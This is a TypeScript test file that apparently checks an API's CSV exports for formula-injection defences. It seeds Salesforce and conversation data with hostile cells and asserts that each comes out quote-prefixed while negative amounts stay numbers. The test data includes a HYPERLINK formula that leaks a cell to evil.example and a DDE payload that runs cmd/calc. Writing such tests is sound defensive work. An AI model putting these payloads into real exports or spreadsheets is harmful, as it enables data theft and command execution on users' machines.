// Finding 7 of the attack round: "CSV formula injection. Cells from conversations or Salesforce that
// begin with =, +, -, @, tab or CR are written live into ledger.csv (and into every CSV the
// analytics issue adds). Neutralise them as OWASP recommends."
// Every CSV the API writes goes through sendCsv (api/exports.ts), whose one helper formulaSafe
// prefixes such a cell with a single quote. The decision on numbers: a cell that is a plain
// decimal number ("-1200.00", an amount booked back) is data, not a formula, and stays a number;
// any other cell beginning with one of those characters is text and is neutralised.
import { parse } from 'csv-parse/sync';
import type { RunningService } from '../../src/app/service';
import { useTestDatabase } from '../support/database';
import { opportunityRow, writeSalesforceRows } from '../support/history-rows';
import { inProcessJobs } from '../support/queues';
import { startTestService } from '../support/service';
import { apiClient, chat, newKey, newWorkspace } from '../api/helpers';

const database = useTestDatabase();
let service: RunningService;
let key: string;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

beforeAll(async () => {
  const jobs = inProcessJobs();
  service = await startTestService({ database, jobs });
  const ws = await newWorkspace(database.db, 'formulas');
  await writeSalesforceRows(database.db, ws.id, {
    accounts: [['A1', '+cmd|calc']],
    users: [['U1', '-2+3']],
    contacts: [['K1', '2026-03-01T00:00:00Z', 'ana@acme.example']],
    opportunities: [
      opportunityRow('O1', '2026-05-02T09:00:00Z', { amount: '1200.00', name: DDE, accountId: 'A1', ownerId: 'U1' }),
      // Down to zero the next day: the ledger books -1200.00, which must stay a number.
      opportunityRow('O1', '2026-05-03T09:00:00Z', {
        amount: '0.00',
        name: DDE,
        accountId: 'A1',
        ownerId: 'U1',
        created: '2026-05-02T09:00:00Z',
      }),
    ],
    roles: [['R1', '2026-05-02T09:00:00Z', 'O1', 'K1']],
  });
  key = await newKey(database.db, ws.id);
  const res = await apiClient(service.url!, key).post('/api/v1/conversations', {
    conversations: [
      chat(HYPERLINK, '2026-05-01T10:00:00Z', { agentId: '\r=1+1', agentName: '\t=2+2', emails: ['ana@acme.example'] }),
    ],
  });
  expect(res.status).toBe(200);
  await jobs.jobs.drain();
});
afterAll(() => service.close());

async function csv(path: string): Promise<Record<string, string>[]> {
  const res = await fetch(`${service.url}${path}`, { headers: { authorization: `Bearer ${key}` } });
  expect(res.status).toBe(200);
  return parse(await res.text(), { columns: true }) as Record<string, string>[];
}

const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('finding 7: no CSV cell reaches a spreadsheet as a live formula', () => {
  it('ledger.csv quotes a hostile conversation id and keeps a negative amount a number', async () => {
    const rows = await csv('/api/v1/ledger.csv');
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.flatMap((r) => Object.values(r)).filter(live)).toEqual([]);
    expect(rows.map((r) => r.cause_conversations)).toContain(`'${HYPERLINK}`);
    expect(rows.map((r) => r.opportunity_name)).toContain(`'${DDE}`);
    expect(rows.map((r) => r.amount)).toContain('-1200.00');
  });

  it('opportunities.csv quotes hostile names from Salesforce and from the chat product', async () => {
    const rows = await csv('/api/v1/opportunities.csv?from=2026-05-01&to=2026-05-31');
    expect(rows).toHaveLength(1);
    expect(rows.flatMap((r) => Object.values(r)).filter(live)).toEqual([]);
    expect(rows[0]).toMatchObject({ name: `'${DDE}`, account_name: "'+cmd|calc", owner_name: "'-2+3" });
    expect(rows[0]!.first_chat_conversation_id).toBe(`'${HYPERLINK}`);
  });
});
